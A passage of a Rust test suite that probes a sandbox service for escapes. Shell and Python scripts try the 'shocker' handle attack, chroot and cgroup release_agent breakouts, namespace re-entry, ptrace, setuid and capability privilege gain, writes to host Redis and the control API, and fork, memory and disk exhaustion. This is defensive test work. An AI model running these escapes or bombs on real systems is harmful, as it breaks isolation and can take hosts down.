                        .run_in(&ctx.victim, &format!("ls /usr/bin/planted-{} 2>&1; grep -c pwned /etc/passwd", ctx.mark))
                        .await;
                    if !r.out.contains("No such file") || !r.out.trim_end().ends_with('0') {
                        return Verdict::Survived(format!("the other sandbox sees the change: {}", r.out));
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "leave /workspace by .. (shell and file API)",
            script: Script::Sh(
                "cd /workspace/.. && pwd && ls; echo x > /workspace/../planted-@@T@@; \
                 cat /workspace/../@@SECRET_NAME@@ /workspace/../@@VICTIM@@/victim-secret.txt 2>&1",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    for p in [format!("../planted-{}", ctx.mark), "../../planted".into()] {
                        let _ = ctx.c.write_file(&ctx.attacker, &p, b"x".to_vec()).await;
                    }
                    for p in [
                        format!("../{}", ctx.secret.file_name().unwrap().to_string_lossy()),
                        format!("../{}/victim-secret.txt", ctx.victim),
                    ] {
                        if let Ok(b) = ctx.c.read_file(&ctx.attacker, &p).await {
                            if String::from_utf8_lossy(&b).contains(&ctx.token) {
                                return Verdict::Survived(format!("the file API read {p}"));
                            }
                        }
                    }
                    if !files_with_token_under(&ctx.mount_dir, "planted", 0).is_empty()
                        || ctx.mount_dir.parent().unwrap().join("planted").exists()
                    {
                        return Verdict::Survived("a file was planted beside the workspaces".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "open_by_handle_at on the workspace's file system (\"shocker\")",
            script: Script::Py(
                r#"
# A handle of the file system's root directory (ext4: inode 2, generation 0).
class FH(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 8)]
fh = FH(8, 1)
fh.f[0] = 2
mfd = os.open("/workspace", os.O_RDONLY)
r = sc(304, mfd, ctypes.byref(fh), os.O_RDONLY | os.O_DIRECTORY)
out("open_by_handle_at", r)
if r.startswith("ok"):
    fd = int(r[3:])
    out(os.listdir("/proc/self/fd/%d" % fd))
    out(rd("/proc/self/fd/%d/@@SECRET_NAME@@" % fd))
h = ctypes.create_string_buffer(136)
struct.pack_into("I", h, 0, 128)
mid = ctypes.c_int()
out("name_to_handle_at", sc(303, -100, b"/workspace", h, ctypes.byref(mid), 0))
"#,
            ),
            check: no_secret,
            survives_on: &[],
        },
        Case {
            name: "chroot breakout",
            script: Script::Py(
                r#"
os.makedirs("/tmp/jail", exist_ok=True)
attempt("chroot", lambda: os.chroot("/tmp/jail"))
for i in range(64):
    attempt("chdir", lambda: os.chdir(".."))
attempt("chroot .", lambda: os.chroot("."))
out(rd("@@SECRET@@"), rd("/proc/1/root@@SECRET@@"))
"#,
            ),
            check: no_secret,
            survives_on: &[],
        },
        // --- processes ---
        Case {
            name: "see host processes",
            script: Script::Sh(
                "for p in /proc/[0-9]*; do echo \"$p $(tr '\\0' ' ' < $p/cmdline 2>/dev/null)\"; done; \
                 ls /proc/@@SERVER_PID@@ /proc/@@CANARY_PID@@ 2>&1 | head -3",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let server_cmd = format!("/proc/{} ", ctx.server_pid);
                    let listed = run
                        .out
                        .lines()
                        .any(|l| l.starts_with(&server_cmd) && l.contains("serve"));
                    if listed {
                        return Verdict::Survived("the server's process is listed".into());
                    }
                    verdict(leaked(run, &[(&format!("escape-canary-{}", ctx.mark), "the host canary's command line")]), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "see another sandbox's processes",
            script: Script::Sh(
                "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '; ps -ef 2>/dev/null; \
                 ls -la /proc/*/fd 2>/dev/null | grep -c victim",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    verdict(leaked(run, &[(&format!("victim-sleep-{}", ctx.mark), "the other sandbox's process")]), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "signal host processes (kill, kill -1, pidfd)",
            script: Script::Py(
                r#"
for pid in (@@CANARY_PID@@, @@SERVER_PID@@):
    attempt("kill %d" % pid, lambda: os.kill(pid, 9))
    out("pidfd_open", sc(434, pid, 0))
mine = os.getpid()
for pid in range(2, @@PID_MAX@@):
    if pid != mine:
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        if pid > 100:
            out("alive", pid)
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    if !super::pid_alive(ctx.canary.id() as i32) {
                        return Verdict::Survived("the host canary was killed".into());
                    }
                    if !super::pid_alive(ctx.server_pid as i32) {
                        return Verdict::Survived("the server was killed".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "signal another sandbox's processes (kill every pid, kill -1)",
            script: Script::Py(
                r#"
mine = os.getpid()
n = 0
for pid in range(2, @@PID_MAX@@):
    if pid != mine:
        try:
            os.kill(pid, 9)
            n += 1
        except OSError:
            pass
out("signalled", n)
attempt("kill -1", lambda: os.kill(-1, 9))
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    if let Err(e) = ctx.victim_intact().await {
                        return Verdict::Survived(e);
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "ptrace and process_vm_readv of host processes",
            script: Script::Py(
                r#"
for pid in (@@CANARY_PID@@, @@SERVER_PID@@, 1):
    out("PTRACE_ATTACH", pid, sc(101, 16, pid, 0, 0))
    out("PTRACE_SEIZE", pid, sc(101, 0x4206, pid, 0, 0))
    buf = ctypes.create_string_buffer(64)
    local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
    remote = (ctypes.c_void_p * 2)(0x400000, 64)
    out("process_vm_readv", pid, sc(310, pid, local, 1, remote, 1, 0))
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let status = read(format!("/proc/{}/status", ctx.canary.id()));
                    if !status.contains("TracerPid:\t0") {
                        return Verdict::Survived("the host canary is being traced".into());
                    }
                    for pid in [ctx.canary.id(), ctx.server_pid] {
                        if run.out.contains(&format!("process_vm_readv {pid} ok")) {
                            return Verdict::Survived(format!("read the memory of host pid {pid}"));
                        }
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        // --- network ---
        Case {
            name: "raw IP socket: forge UDP to the host",
            script: Script::Py(
                r#"
def forged(dst, port):
    payload = ("raw " + T).encode()
    udp = struct.pack("!HHHH", 4242, port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                     socket.inet_aton("127.0.0.1"), socket.inet_aton(dst))
    return ip + udp
for dst in ["127.0.0.1"] + "@@HOST_IPS@@".split():
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        s.sendto(forged(dst, @@UDP_PORT@@), (dst, 0))
        out("raw sent", dst)
    except Exception as e:
        out("raw", dst, type(e).__name__, e)
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(T.encode(), (dst, @@UDP_PORT@@))
        out("udp sent", dst)
    except Exception as e:
        out("udp", dst, type(e).__name__)
time.sleep(1)
"#,
            ),
            check: host_listeners_untouched,
            survives_on: &[],
        },
        Case {
            name: "packet socket: sniff the host's loopback",
            script: Script::Py(
                r#"
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.settimeout(1)
    end = time.time() + 3
    while time.time() < end:
        try:
            out(s.recv(65536).decode("latin1"))
        except socket.timeout:
            pass
except Exception as e:
    out("AF_PACKET", type(e).__name__, e)
"#,
            ),
            check: no_secret,
            survives_on: &[],
        },
        Case {
            name: "reach the sandboxd API on host loopback",
            script: Script::Py(
                r#"
for fam, addr in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    for req in ("GET /v1/sandboxes HTTP/1.0\r\n\r\n", "DELETE /v1/sandboxes/@@VICTIM@@ HTTP/1.0\r\n\r\n"):
        try:
            s = socket.create_connection((addr, @@API_PORT@@), timeout=3)
            s.sendall(req.encode())
            out(s.recv(65536).decode("latin1"))
        except Exception as e:
            out(addr, type(e).__name__, e)
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    if run.out.contains(&ctx.victim) && run.out.contains("HTTP/1") {
                        return Verdict::Survived("the API answered the sandbox".into());
                    }
                    match ctx.c.get(&ctx.victim).await {
                        Ok(s) if s.state == SandboxState::Running => {}
                        other => return Verdict::Survived(format!("the other sandbox is gone: {other:?}")),
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "reach a Redis on host loopback",
            script: Script::Py(
                r#"
for addr in ["127.0.0.1", "::1", "0.0.0.0"] + "@@HOST_IPS@@".split():
    try:
        s = socket.create_connection((addr, @@REDIS_PORT@@), timeout=3)
        s.sendall(b"SET sandboxd-escape pwned\r\nINFO\r\n")
        out(s.recv(4096).decode("latin1")[:200])
    except Exception as e:
        out(addr, type(e).__name__, e)
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let got = redis_get(ctx.redis_port, "sandboxd-escape");
                    if got.contains("pwned") {
                        return Verdict::Survived("the sandbox wrote to the host's Redis".into());
                    }
                    if run.out.contains("redis_version") {
                        return Verdict::Survived("the host's Redis answered the sandbox".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "reach host listeners on every host address (TCP and UDP)",
            script: Script::Py(
                r#"
for addr in ["127.0.0.1", "0.0.0.0", "::1", "172.17.0.1", "10.0.2.2"] + "@@HOST_IPS@@".split():
    try:
        socket.create_connection((addr, @@TCP_PORT@@), timeout=2)
        out("connected", addr)
    except Exception as e:
        out(addr, type(e).__name__)
    try:
        socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (addr, @@UDP_PORT@@))
    except Exception as e:
        out(addr, "udp", type(e).__name__)
time.sleep(1)
"#,
            ),
            check: host_listeners_untouched,
            survives_on: &[],
        },
        Case {
            name: "reach host Unix sockets (abstract, the agents', the engine's, one in the state dir)",
            script: Script::Py(
                r#"
paths = ["\0sandboxd-escape-host-" + T, "@@STATE_DIR@@/escape.sock", "@@RUN_DIR@@/@@VICTIM@@/agent.sock",
         "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"]
for e in os.listdir("/run") if os.path.isdir("/run") else []:
    paths.append("/run/" + e)
for p in paths:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(p)
        out("connected", repr(p))
    except Exception as e:
        out(repr(p), type(e).__name__)
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    if let Some(s) = listeners_contacted(ctx) {
                        return Verdict::Survived(s);
                    }
                    // The box's own agent socket directory may be in it (docker, gvisor);
                    // anything else connected to is a host socket.
                    let foreign = run.out.lines().any(|l| {
                        l.starts_with("connected") && !l.contains("/.sandboxd/run")
                    });
                    if foreign {
                        return Verdict::Survived(format!("connected to a host socket: {}", gist(run)));
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "reach another sandbox over loopback TCP",
            script: Script::Py(
                r#"
for addr in ("127.0.0.1", "::1"):
    try:
        socket.create_connection((addr, 7777), timeout=2)
        out("connected", addr)
    except Exception as e:
        out(addr, type(e).__name__)
"#,
            ),
            check: |ctx, run| victim_untouched(ctx, run, &["tcp", "tcp6"]),
            survives_on: &[],
        },
        Case {
            name: "reach another sandbox over UDP",
            script: Script::Py(
                r#"
for i in range(5):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(T.encode(), ("127.0.0.1", 7778))
time.sleep(1)
"#,
            ),
            check: |ctx, run| victim_untouched(ctx, run, &["udp"]),
            survives_on: &[],
        },
        Case {
            name: "reach another sandbox over an abstract Unix socket",
            script: Script::Py(
                r#"
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\0victim-" + T)
    out("connected")
except Exception as e:
    out(type(e).__name__, e)
"#,
            ),
            check: |ctx, run| victim_untouched(ctx, run, &["abstract"]),
            survives_on: &[],
        },
        Case {
            name: "reach another sandbox's named Unix socket and files",
            script: Script::Py(
                r#"
for p in ["/tmp/victim.sock", "/proc/1/root/tmp/victim.sock"] + ["/proc/%s/root/tmp/victim.sock" % p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(p)
        out("connected", p)
    except Exception as e:
        out(p, type(e).__name__)
for p in ("@@MOUNT_DIR@@/@@VICTIM@@/victim-secret.txt", "/workspace/../@@VICTIM@@/victim-secret.txt"):
    out(p, rd(p))
"#,
            ),
            check: |ctx, run| victim_untouched(ctx, run, &["unix"]),
            survives_on: &[],
        },
        Case {
            name: "read another sandbox's System V shared memory",
            script: Script::Py(
                r#"
libc.shmat.restype = ctypes.c_void_p
for key in (0x5eed0001,):
    shm = libc.shmget(key, 0, 0)
    out("shmget", shm, ctypes.get_errno())
    if shm >= 0:
        addr = libc.shmat(shm, None, 0o10000)
        out(ctypes.string_at(addr, 64).decode("latin1"))
for shmid in range(0, 64):
    addr = libc.shmat(shmid, None, 0o10000)
    if addr not in (None, ctypes.c_void_p(-1).value):
        out("attached", shmid, ctypes.string_at(addr, 64).decode("latin1"))
out(rd("/proc/sysvipc/shm"))
"#,
            ),
            check: no_secret,
            survives_on: &[],
        },
        // --- the kernel ---
        Case {
            name: "load kernel modules (finit_module, init_module, autoload by socket family)",
            script: Script::Py(
                r#"
out("finit_module", sc(313, -1, b"", 0))
out("init_module", sc(175, None, 0, b""))
out("delete_module", sc(176, b"sandboxd_escape", 0))
for fam in (3, 4, 5, 9, 12, 21, 33, 36):
    try:
        socket.socket(fam, socket.SOCK_DGRAM)
        out("family", fam, "ok")
    except Exception as e:
        out("family", fam, type(e).__name__)
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    // With the privilege the kernel checks the arguments instead (EBADF,
                    // EFAULT, ENOENT); without it, EPERM (ENOSYS: no module support).
                    for call in ["finit_module", "init_module", "delete_module"] {
                        let line = run.out.lines().find(|l| l.starts_with(call)).unwrap_or("");
                        if !(line.ends_with("EPERM") || line.ends_with("ENOSYS")) {
                            return Verdict::Survived(format!("{call} was not refused: {line}"));
                        }
                    }
                    let now = read("/proc/modules");
                    if now != *MODULES_BEFORE.lock().unwrap() {
                        return Verdict::Survived("the host kernel loaded a module".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "keyrings (add_key, keyctl, request_key)",
            script: Script::Py(
                r#"
desc = ("sandboxd-escape-" + T).encode()
out("add_key", sc(248, b"user", desc, b"x", 1, -4))
out("add_key session", sc(248, b"user", desc, b"x", 1, -3))
out("keyctl get user keyring", sc(250, 0, -4, 0))
out("request_key", sc(249, b"user", b"invocation_id", None, 0))
out(rd("/proc/keys"))
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let keys = read("/proc/keys");
                    if keys.contains(&format!("sandboxd-escape-{}", ctx.mark)) {
                        return Verdict::Survived("a key of the sandbox is in the host's keyrings".into());
                    }
                    if run.out.lines().any(|l| l.starts_with("add_key") && l.contains(" ok:")) {
                        return Verdict::Survived("add_key made a key".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "bpf (map create, program load)",
            script: Script::Py(
                r#"
attr = ctypes.create_string_buffer(struct.pack("IIIII", 2, 4, 4, 1, 0) + b"\0" * 100)
out("BPF_MAP_CREATE", sc(321, 0, attr, 120))
insns = struct.pack("BBhi", 0xb7, 0, 0, 0) + struct.pack("BBhi", 0x95, 0, 0, 0)
ib = ctypes.create_string_buffer(insns)
lic = ctypes.create_string_buffer(b"GPL")
pa = ctypes.create_string_buffer(struct.pack("IIQQ", 1, 2, ctypes.addressof(ib), ctypes.addressof(lic)) + b"\0" * 100)
out("BPF_PROG_LOAD", sc(321, 5, pa, 128))
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    if run.out.contains(" ok:") {
                        return Verdict::Survived(format!("bpf(2) made an object: {}", gist(run)));
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "perf_event_open of the whole machine",
            script: Script::Py(
                r#"
attr = ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0) + b"\0" * 120)
for cpu in range(os.cpu_count() or 1):
    out("system-wide cpu", cpu, sc(298, attr, -1, cpu, -1, 0))
out("kernel tracepoint", sc(298, ctypes.create_string_buffer(struct.pack("IIQ", 2, 128, 1) + b"\0" * 120), -1, 0, -1, 0))
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    if run.out.contains(" ok:") {
                        return Verdict::Survived("perf_event_open watches the whole machine".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "userfaultfd (kernel-mode faults)",
            script: Script::Py(
                r#"
out("userfaultfd", sc(323, 0o2000000))
out("userfaultfd user-mode-only", sc(323, 0o2000000 | 1))
out("/dev/userfaultfd", rd("/dev/userfaultfd", 1)[:20])
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let line = run.out.lines().find(|l| l.starts_with("userfaultfd ")).unwrap_or("");
                    if line.contains("ok:") {
                        return Verdict::Survived("userfaultfd handles kernel faults".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "unshare a user namespace (and mount in it)",
            script: Script::Py(
                r#"
r = sc(272, 0x10000000 | 0x00020000)
out("unshare(NEWUSER|NEWNS)", r)
out("unshare(NEWUSER)", sc(272, 0x10000000))
if os.fork() == 0:
    os.setsid()
    sc(272, 0x10000000)
    os.execv("/bin/sleep", ["escape-mark-" + T, "30"])
time.sleep(1)
out("mount in it", sc(165, b"none", b"/tmp", b"tmpfs", 0, None))
out(rd("@@SECRET@@"))
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let v = namespaces_held(ctx, run, &["mnt", "pid", "net"]);
                    kill_marked(ctx);
                    v
                })
            },
            survives_on: &[],
        },
        Case {
            name: "setns back into the host's namespaces",
            script: Script::Py(
                r#"
for pid in ("1", "@@SERVER_PID@@", "@@CANARY_PID@@", "self"):
    for kind in ("mnt", "pid", "net", "uts", "ipc", "cgroup", "user"):
        try:
            fd = os.open("/proc/%s/ns/%s" % (pid, kind), os.O_RDONLY)
            out("setns", pid, kind, sc(308, fd, 0))
        except Exception as e:
            out("open", pid, kind, type(e).__name__)
out(rd("@@SECRET@@"))
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sleep", ["escape-mark-" + T, "30"])
time.sleep(1)
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    // The attack leaves a marked sleep in whatever namespaces it reached.
                    let v = namespaces_held(ctx, run, &["mnt", "pid", "net", "uts", "ipc"]);
                    kill_marked(ctx);
                    v
                })
            },
            survives_on: &[],
        },
        // --- cgroups ---
        Case {
            name: "leave the sandbox's cgroup (write cgroup.procs, mount cgroupfs)",
            script: Script::Py(
                r#"
pid = os.fork()
if pid == 0:
    os.setsid()
    os.execv("/bin/sleep", ["escape-mark-" + T, "30"])
for root, dirs, files in os.walk("/sys/fs/cgroup"):
    if root.count("/") > 6:
        continue
    for f in files:
        if f in ("cgroup.procs", "tasks"):
            attempt("move to " + root, lambda: open(root + "/" + f, "w").write(str(pid)))
for i, (fs, opts) in enumerate((("cgroup2", None), ("cgroup", b"memory"), ("cgroup", b"pids"))):
    d = "/tmp/cg%d" % i
    os.makedirs(d, exist_ok=True)
    r = sc(165, b"none", d.encode(), fs.encode(), 0, opts)
    out("mount", fs, opts, r)
    if r.startswith("ok"):
        attempt("move to the root of " + fs, lambda: open(d + "/cgroup.procs", "w").write(str(pid)))
out(rd("/proc/%d/cgroup" % pid))
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let marker = format!("escape-mark-{}", ctx.mark);
                    for pid in host_procs_with(&marker) {
                        let cg = read(format!("/proc/{pid}/cgroup"));
                        for line in cg.lines() {
                            let mut f = line.splitn(3, ':');
                            let (_, ctrl, path) = (f.next(), f.next().unwrap_or(""), f.next().unwrap_or(""));
                            if (ctrl.contains("memory") || ctrl.contains("pids")) && path == "/" {
                                kill_marked(ctx);
                                return Verdict::Survived(format!("a process of the sandbox is in the host's root {ctrl} cgroup"));
                            }
                        }
                    }
                    kill_marked(ctx);
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "cgroup v1 release_agent",
            script: Script::Sh(
                "mkdir -p /tmp/cgr; for o in memory rdma pids none,name=escape; do \
                   mount -t cgroup -o $o cgroup /tmp/cgr 2>&1 && break; done; \
                 printf '#!/bin/sh\\necho pwned > /tmp/escape-released-@@T@@\\n' > /workspace/ra.sh; chmod +x /workspace/ra.sh; \
                 echo /workspace/ra.sh > /tmp/cgr/release_agent 2>&1; \
                 for f in /sys/fs/cgroup/*/release_agent; do echo /workspace/ra.sh > $f 2>&1; done; \
                 mkdir /tmp/cgr/x 2>&1 && echo 1 > /tmp/cgr/x/notify_on_release && sh -c 'echo $$ > /tmp/cgr/x/cgroup.procs'; sleep 1",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    std::thread::sleep(Duration::from_secs(1));
                    if Path::new(&format!("/tmp/escape-released-{}", ctx.mark)).exists() {
                        return Verdict::Survived("the host ran the sandbox's release agent".into());
                    }
                    settings_unchanged(ctx, run).await
                })
            },
            survives_on: &[],
        },
        Case {
            name: "raise the sandbox's own cgroup limits",
            script: Script::Sh(
                "for f in $(find /sys/fs/cgroup -maxdepth 3 -name memory.max -o -maxdepth 3 -name memory.limit_in_bytes \
                   -o -maxdepth 3 -name pids.max 2>/dev/null); do echo max > $f 2>&1; echo 9223372036854771712 > $f 2>&1; done; \
                 mkdir -p /tmp/cgm; mount -t cgroup -o memory none /tmp/cgm 2>&1; \
                 python3 -c \"b = bytearray(400 << 20); print('allocated', len(b))\" 2>&1 | tail -1",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    if run.out.contains("allocated") {
                        return Verdict::Survived("allocated more than the memory limit".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        // --- host identity ---
        Case {
            name: "change the host's name (sethostname, setdomainname, /proc/sys)",
            script: Script::Sh(
                "hostname escape-@@T@@ 2>&1; echo escape > /proc/sys/kernel/hostname 2>&1; \
                 echo escape > /proc/sys/kernel/domainname 2>&1; python3 -c \"import socket; socket.sethostname('escape')\" 2>&1 | tail -1; hostname",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let before = BEFORE.lock().unwrap().clone();
                    if host_hostname() != before["/proc/sys/kernel/hostname"] {
                        let _ = changed_settings(&before);
                        return Verdict::Survived("the host's name changed".into());
                    }
                    settings_unchanged(ctx, run).await
                })
            },
            survives_on: &[],
        },
        Case {
            name: "change the host's clock (settimeofday, clock_settime, adjtimex)",
            script: Script::Py(
                r#"
now = int(time.time()) + 3600
tv = struct.pack("qq", now, 0)
out("settimeofday", sc(164, ctypes.create_string_buffer(tv), None))
out("clock_settime", sc(227, 0, ctypes.create_string_buffer(tv)))
tx = bytearray(208)
struct.pack_into("I", tx, 0, 0x0100)
struct.pack_into("q", tx, 72, 3600)
out("adjtimex SETOFFSET", sc(159, ctypes.create_string_buffer(bytes(tx), 208)))
os.system("date -s '+1 hour' 2>&1")
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let start = *CLOCK_AT.lock().unwrap();
                    let (sys, mono) = start.expect("the clock was read before the attack");
                    let expected = sys + mono.elapsed();
                    let now = SystemTime::now();
                    let drift = now
                        .duration_since(expected)
                        .or_else(|_| expected.duration_since(now))
                        .unwrap_or_default();
                    if drift > Duration::from_secs(600) {
                        return Verdict::Survived(format!("the host's clock moved by {} s", drift.as_secs()));
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "host-wide calls (reboot, kexec, swapon, acct, iopl, ioperm)",
            script: Script::Py(
                r#"
out("reboot CAD_OFF", sc(169, 0xfee1dead, 672274793, 0))
out("kexec_load", sc(246, 0, 0, None, 0))
out("swapon", sc(167, b"/dev/null", 0))
open("/workspace/acct", "w").close()
out("acct", sc(163, b"/workspace/acct"))
out("iopl", sc(172, 3))
out("ioperm", sc(173, 0x80, 1, 1))
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    for call in ["kexec_load", "swapon", "acct", "iopl", "ioperm", "reboot"] {
                        let line = run.out.lines().find(|l| l.starts_with(call)).unwrap_or("");
                        if line.contains(" ok:") {
                            if call == "acct" {
                                // SAFETY: acct(2) with NULL turns process accounting off.
                                unsafe { libc::acct(std::ptr::null()) };
                            }
                            return Verdict::Survived(format!("{call} was allowed"));
                        }
                    }
                    settings_unchanged(ctx, run).await
                })
            },
            survives_on: &[],
        },
        // --- privilege ---
        Case {
            name: "gain privileges through a setuid-root binary",
            script: Script::Py(
                r#"
# The sandbox's root has no capabilities (and cannot become another user without them):
# a setuid-root binary would give back a full set, unless no_new_privs holds.
import shutil, subprocess
def capeff():
    return [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0]
out("before", capeff())
code = "print('after', [l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')][0], 'euid', __import__('os').geteuid())"
for d in ("/workspace", "/tmp", "/usr/local/bin"):
    p = d + "/suid-py"
    try:
        shutil.copy("/usr/bin/python3", p)
        os.chmod(p, 0o4755)
        out(p, oct(os.stat(p).st_mode))
        out(subprocess.run([p, "-c", code], capture_output=True, text=True).stdout.strip())
    except Exception as e:
        out(p, "ERR", type(e).__name__, e)
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let hex = |prefix: &str| -> Vec<u64> {
                        run.out
                            .lines()
                            .filter_map(|l| l.strip_prefix(prefix))
                            .filter_map(|l| l.split_whitespace().next())
                            .filter_map(|h| u64::from_str_radix(h, 16).ok())
                            .collect()
                    };
                    let (before, after) = (hex("before "), hex("after "));
                    let Some(&before) = before.first() else {
                        return Verdict::Survived(format!("the probe did not run: {}", gist(run)));
                    };
                    if after.is_empty() {
                        return Verdict::Survived(format!("the setuid binary did not run: {}", gist(run)));
                    }
                    if let Some(a) = after.iter().find(|a| *a & !before != 0) {
                        return Verdict::Survived(format!("a setuid-root binary gained capabilities {a:x}"));
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "gain capabilities through file capabilities",
            script: Script::Py(
                r#"
import shutil
shutil.copy("/usr/bin/python3", "/workspace/cap-py")
# security.capability v2: CAP_SYS_ADMIN (21) and CAP_DAC_READ_SEARCH (2) permitted and effective.
val = struct.pack("<IIIII", 0x02000001, (1 << 21) | (1 << 2), 0, 0, 0)
try:
    os.setxattr("/workspace/cap-py", "security.capability", val)
    out("setxattr ok")
except Exception as e:
    out("setxattr", type(e).__name__)
os.system("/workspace/cap-py -c \"print([l.strip() for l in open('/proc/self/status') if l.startswith('Cap')])\"")
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let eff = run
                        .out
                        .split("CapEff:\\t")
                        .nth(1)
                        .and_then(|s| s.get(..16))
                        .and_then(|h| u64::from_str_radix(h, 16).ok());
                    match eff {
                        Some(e) if e & ((1 << 21) | (1 << 2)) != 0 => {
                            Verdict::Survived(format!("the file's capabilities were granted: {e:x}"))
                        }
                        Some(_) => verdict(leaked(run, &secrets(ctx)), run),
                        None => Verdict::Survived(format!("the probe did not run: {}", gist(run))),
                    }
                })
            },
            survives_on: &[],
        },
        // --- resource exhaustion (the probe checks the host and the victim meanwhile) ---
        Case {
            name: "fork bomb",
            script: Script::Sh(
                "timeout -s KILL 20 python3 -c \"\nimport os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n\" \
                 >/dev/null 2>&1; echo ended",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let host_ok = std::process::Command::new("true").status().is_ok();
                    if !host_ok {
                        return Verdict::Survived("the host cannot start a process".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "memory bomb",
            script: Script::Sh(
                "python3 -c \"\nchunks = []\nfor i in range(64):\n    chunks.append(bytearray(16 << 20))\nprint('allocated', len(chunks) * 16, 'MiB')\n\" 2>&1 | tail -1",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    // gVisor has no out-of-memory killer: the whole box ends (README).
                    if ctx.backend == "gvisor" && !run.out.contains("allocated") {
                        return Verdict::Denied(format!("the box ended or the hog died: {}", gist(run)));
                    }
                    if run.out.contains("allocated") {
                        return Verdict::Survived(format!("the hog got its memory: {}", gist(run)));
                    }
                    let alive = ctx.run_in(&ctx.attacker, "echo alive").await;
                    if !alive.out.contains("alive") {
                        return Verdict::Survived(format!("the sandbox died, not the hog: {}", alive.out));
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "disk fill of /tmp (disk limit)",
            script: Script::Py(FILL.replace_str("@@DIR@@", "/tmp")),
            check: disk_fill_check,
            survives_on: &[],
        },
        Case {
            name: "disk fill of the writable root layer (disk limit)",
            script: Script::Py(FILL.replace_str("@@DIR@@", "/var/tmp")),
            check: disk_fill_check,
            survives_on: &[
